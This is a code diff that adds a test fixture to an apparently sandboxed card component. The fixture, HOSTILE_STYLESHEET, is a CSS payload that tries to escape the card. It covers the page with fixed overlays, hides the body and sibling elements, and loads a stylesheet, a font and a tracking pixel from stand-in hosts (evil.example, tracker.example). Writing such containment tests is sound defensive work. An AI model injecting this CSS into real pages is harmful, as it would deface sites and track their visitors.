@@ -145,3 +145,23 @@ export const everyBlockCard = component(
   },
   EDGE_STYLESHEET,
 )
+
+/**
+ * A stylesheet that tries every way out of the card: a page-wide overlay, a fixed banner, a huge
+ * shadow, selectors of the page and of the card's siblings, remote images and fonts.
+ */
+export const HOSTILE_STYLESHEET = `
+@import url(https://evil.example/steal.css);
+@font-face { font-family: Evil; src: url(https://evil.example/evil.woff2); }
+& { position: fixed !important; inset: 0; z-index: 2147483647; transform: translateY(-200px); margin: -300px; box-shadow: 0 0 0 4000px red; }
+&::before { content: 'PWNED'; position: fixed; inset: 0; background: red; z-index: 2147483647; }
+h3 { position: absolute; top: -500px; left: -500px; width: 3000px; height: 3000px; background: red; }
+:not(&) { visibility: hidden; }
+& + *, & ~ * { display: none !important; }
+html:has(&) { background: red; }
+body { display: none; }
+p { background: url(https://tracker.example/pixel.gif); font-family: Evil; }
+`
+
+/** The typical card with `HOSTILE_STYLESHEET`: it must stay a card among others. */
+export const hostileCard = component('8', typicalCard.mobiledoc, HOSTILE_STYLESHEET)
